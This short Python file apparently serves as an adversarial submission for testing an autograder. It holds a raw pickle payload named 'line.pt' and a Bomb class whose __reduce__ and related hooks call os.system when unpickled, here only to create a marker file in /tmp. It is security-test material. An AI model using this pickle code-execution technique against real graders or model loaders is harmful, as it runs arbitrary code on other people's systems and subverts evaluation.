"""Answers with objects whose unpickling runs code, and hands in a checkpoint that does."""

ROW = 7
REASON = {"wrong", "crash", "output"}
EARNS = 0.4  # of `line`, the check that needs no training
FILES = {"line.pt": b"cposix\nsystem\n(S'touch /tmp/autograder-attack-marker'\ntR."}

import os

import numpy


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/autograder-attack-marker",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __array__ = __reduce__


def double(x):
    return Bomb() if x.ndim else numpy.array([Bomb()], dtype=object)
